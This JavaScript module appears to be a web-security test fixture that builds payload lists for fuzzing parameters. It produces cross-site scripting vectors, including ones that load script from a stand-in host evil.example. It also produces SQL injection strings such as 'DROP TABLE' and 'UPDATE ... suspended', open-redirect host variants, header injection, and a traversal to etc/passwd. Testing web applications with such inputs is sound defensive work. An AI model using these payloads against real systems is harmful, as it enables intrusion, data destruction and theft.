// What attackers type, by family: each family is tried on every parameter, each payload on some.

const families = (names, others, join) => Object.fromEntries(names.map((name) => [name, others.map((other) => join(name, other))]));

const breakouts = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", '"/></option></select>', "]]>"];

/// 100: markup that would set window.__hit, or be an element of that name, behind what closes the place it stands in.
export const scripts = families([
  "<script>window.__hit=1</script>", "<ScRiPt src=//evil.example/__hit.js></sCrIpT>", "<img src=x onerror=window.__hit=1>", "<svg/onload=window.__hit=1>",
  "<details open ontoggle=window.__hit=1>", "<iframe srcdoc=\"<script>parent.__hit=1</script>\">", "<a id=__hit href=\"javascript:window.__hit=1\">hit</a>",
  " autofocus onfocus=\"window.__hit=1\" x=\"", "{{{__hit}}}{{#__hit}}<b id=__hit>{{/__hit}}", "<meta http-equiv=refresh content=\"0;url=//evil.example/__hit\">",
], breakouts, (vector, breakout) => breakout + vector);

/// 150: what would end a statement's text and go on as SQL of either engine.
export const sqls = families(["'", '"', "')", "'))", "%'", "1", "1)", "\\'", "name", "status'"], [
  " OR 1=1 --", " OR '1'='1", "; DROP TABLE kernel_person; --", " UNION SELECT 'lea'||'ked' --", " UNION SELECT NULL,'lea'||'ked',NULL,NULL,NULL,NULL --",
  " OR pg_sleep(25) IS NULL --", "||pg_sleep(25)||'", "; UPDATE kernel_person SET status='suspended' --", " ORDER BY 99 --", " LIMIT 0 OFFSET 1 --", " OR randomblob(900000000) --",
  " COLLATE NOCASE DESC --", " OR name LIKE '%", " DESC, (SELECT 1/0)", "/**/OR/**/1=1#",
], (start, rest) => start + rest);

const hosts = ["//evil.example", "///evil.example", "////evil.example", "https://evil.example", "http:evil.example", "https:/evil.example", "https:\\\\evil.example", "/\\evil.example",
  "\\\\evil.example", "\\/evil.example", "/\t/evil.example", "/\n/evil.example", "\t//evil.example", " //evil.example", "/%2f/evil.example", "/%5cevil.example", "//127.0.0.1@evil.example",
  "https://127.0.0.1.evil.example", "/..//evil.example", "/.//evil.example", "javascript:location='//evil.example'//", "data:text/html,<script>window.__hit=1</script>",
  "/\r\nX-Injected: 1\r\nLocation: //evil.example", "//evil。example", "／／evil.example"];
/// 200: addresses that look like a path to somebody and like another host to a browser.
export const redirects = families(hosts, ["", "/", "/users", "?x=1", "#x", "/%2e%2e", ":80/", "/\\"], (host, rest) => host + rest);

const raw = (bytes) => ({raw: bytes});
/// Text that is none, and numbers that are too many.
export const texts = {
  bytes: ["%00", "a%00b", "%FF%FE", "%C0%AF", "%ED%A0%80", "%F0%9F", "%25", "%0D%0AX-Injected:%201"].map(raw),
  numbers: ["-1", "0", "99999999999999999999", "1e309", "NaN", "0x10", "١٢", "2147483648"].map(raw),
  long: [raw("a".repeat(4000)), raw("%C3%A9".repeat(500)), raw("%25".repeat(500))],
  wildcards: ["%25%25", "*", "_%25", "%5C", "(", "%5B%5E", "$%7B7*7%7D", "..%2F..%2Fetc%2Fpasswd"].map(raw),
};

const count = (all) => new Set(Object.values(all).flat()).size;
if (count(scripts) < 100 || count(sqls) < 150 || count(redirects) < 200) throw new Error("there are fewer payloads than promised");
